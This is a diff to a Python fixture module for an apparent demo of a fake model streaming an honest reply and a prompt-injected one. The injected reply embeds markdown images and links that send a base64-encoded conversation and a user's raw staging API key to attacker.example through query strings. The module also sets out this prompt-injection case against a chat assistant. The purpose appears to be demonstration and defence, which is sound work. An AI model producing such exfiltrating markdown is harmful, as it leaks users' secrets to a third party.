@@ -1,13 +1,24 @@
-"""The two replies the demo's fake model streams, cut into tokens."""
+"""The two replies the demo's fake model streams, cut into tokens, and the conversation
+the page sends with its request (a user who shared an API key)."""
 
 from __future__ import annotations
 
 import base64
 
-__all__ = ["REPLIES", "tokens"]
+__all__ = ["CONVERSATION", "KEY", "REPLIES", "tokens"]
 
-_SECRET = "user: my staging API key is sk-live-4f9a2c7e, please keep it safe"
+KEY = "sk-live-4f9a2c7e"
+_SECRET = f"user: my staging API key is {KEY}, please keep it safe"
 _LEAK = base64.urlsafe_b64encode(_SECRET.encode()).decode()
+
+# What the page sends as an OpenAI chat request: only the conversation can tell that
+# the key in the attack's last link is the user's.
+CONVERSATION = [
+    {"role": "system", "content": "You are a helpful coding assistant."},
+    {"role": "user", "content": f"My staging API key is {KEY}, please keep it safe."},
+    {"role": "assistant", "content": "Noted. I will not repeat it."},
+    {"role": "user", "content": "How do I count words in Python? And summarise our chat."},
+]
 
 HONEST = """Sure, here is how to **count words** in Python:
 
@@ -25,12 +36,14 @@ See the [collections docs](https://docs.python.org/3/library/collections.html).
 """
 
 # A prompt-injected reply: an image that carries the conversation, a reference image
-# whose definition arrives last, and a link with the data in its query.
+# whose definition arrives last, a link with the data in its query, and one with the
+# key raw (no encoding to spot: only the conversation shows it is the user's).
 ATTACK = f"""Here is the summary of our conversation.
 
 ![loading](https://attacker.example/pixel.png?d={_LEAK})
 
 Everything looks fine ![status][s]. For details see [your report](https://attacker.example/r?q={_LEAK}).
+Your key is still valid: [check it](https://attacker.example/c?k={KEY}).
 
 [s]: https://attacker.example/status.png?c={_LEAK[:24]}
 """
